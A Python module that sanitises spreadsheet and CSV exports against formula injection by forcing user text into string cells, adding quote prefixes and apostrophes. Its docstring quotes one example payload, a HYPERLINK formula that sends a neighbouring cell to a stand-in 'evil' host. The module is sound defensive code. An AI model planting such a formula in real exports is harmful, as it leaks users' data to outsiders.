"""Export sanitising (导出清洗): the one place every spreadsheet writer takes its cells from.

A cell whose text comes from a user — a rectification measure, a 偏差原因, a department's name —
and starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is what a spreadsheet
program takes for a formula (CSV/formula injection, OWASP): ``=HYPERLINK("http://evil/?"&B2,"点此")``
would send the neighbouring cell to a stranger when a finance officer clicks it. Rules:

- **XLSX** (xlsxwriter): every text is written as a string cell (``t="s"``, a shared string), never
  through the type guessing of ``write()`` that turns ``"=…"`` into a formula, ``"1e5"`` into a
  number or ``"http://…"`` into a link. A string cell is never evaluated by Excel, WPS or
  LibreOffice, and the text stays exactly what the user wrote (no character added). A text that
  *looks* like a formula also gets the cell style 前缀引号 (``quotePrefix``, what Excel sets when one
  types ``'=2+3``), so a reader who edits the cell and presses Enter keeps text, not a formula.
  Real numbers are written with ``write_number`` and the workbook's own formulas (the 自评表's
  执行率, 得分, 总分) with ``write_formula``: both are the writer's, not the user's.
- **openpyxl** writers (the monthly template): :func:`openpyxl_text` sets the cell's type to
  string and the same quote prefix.
- **CSV** has no cell types, so :func:`csv_text` prefixes such a text with an apostrophe, as OWASP
  advises; the apostrophe is visible in a text editor, which is the price of the format.

Writers use :class:`Workbook` instead of ``xlsxwriter.Workbook``; ``tests/security/test_exports.py``
checks every export, and a test checks that no module but this one creates an xlsxwriter workbook.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

import xlsxwriter
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet program read a text as a formula (OWASP CSV injection)."""

SAFE_OPTIONS = {"strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}
"""xlsxwriter options under which ``write()`` writes every ``str`` as a string cell."""


def formula_like(value: object) -> bool:
    """Whether ``value`` is a text a spreadsheet would take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


class SafeWorksheet(Worksheet):
    """A worksheet whose every string cell is text: formula-like text also gets the quote prefix."""

    book: Workbook | None = None

    def _write_string(self, row: int, col: int, string: str, cell_format: Format | None = None) -> Any:
        if formula_like(string) and self.book is not None:
            cell_format = self.book.quoted(cell_format)
        return super()._write_string(row, col, string, cell_format)

    def write_value(self, row: int, col: int, value: object, cell_format: Format | None = None) -> Any:
        """``value`` by its type: a number as a number, ``None`` as a blank, anything else as text."""
        if value is None:
            return self.write_blank(row, col, None, cell_format)
        if isinstance(value, bool):
            return self.write_string(row, col, "是" if value else "否", cell_format)
        if isinstance(value, int | float | Decimal):
            return self.write_number(row, col, float(value) if isinstance(value, Decimal) else value, cell_format)
        return self.write_string(row, col, str(value), cell_format)

    def write_values(self, row: int, col: int, values: Iterable[object], cell_format: Format | None = None) -> None:
        for offset, value in enumerate(values):
            self.write_value(row, col + offset, value, cell_format)


class Workbook(xlsxwriter.Workbook):
    """An xlsxwriter workbook that writes user text as text (see the module's rules)."""

    worksheet_class = SafeWorksheet

    def __init__(self, target: str | Path | IO[bytes], options: dict[str, Any] | None = None) -> None:
        # formats are kept by the workbook to the end, so their ids stay theirs
        self._properties: dict[int, dict[str, Any]] = {}
        self._quoted: dict[int | None, Format] = {}
        super().__init__(str(target) if isinstance(target, Path) else target,
                         {"in_memory": True, **(options or {}), **SAFE_OPTIONS})

    def add_format(self, properties: dict[str, Any] | None = None) -> Format:
        fmt = super().add_format(properties)
        self._properties[id(fmt)] = dict(properties or {})
        return fmt

    def add_worksheet(self, name: str | None = None, worksheet_class: Any = None) -> SafeWorksheet:
        sheet = super().add_worksheet(name, worksheet_class or SafeWorksheet)
        sheet.book = self
        return sheet

    def quoted(self, fmt: Format | None) -> Format:
        """``fmt`` with the quote prefix (前缀引号), made once per format."""
        key = None if fmt is None else id(fmt)
        if key not in self._quoted:
            base = {} if fmt is None else self._properties.get(id(fmt), {})
            self._quoted[key] = self.add_format({**base, "quote_prefix": True})
        return self._quoted[key]


def openpyxl_text(cell: Any, value: str) -> None:
    """Put ``value`` into an openpyxl cell as text: string type, quote prefix when it looks like a formula."""
    cell.value = value
    cell.data_type = "s"
    if formula_like(value):
        cell.quotePrefix = True


def csv_text(value: object) -> str:
    """A CSV field: ``None`` empty, numbers as written, formula-like text behind an apostrophe (OWASP)."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if formula_like(value) else text
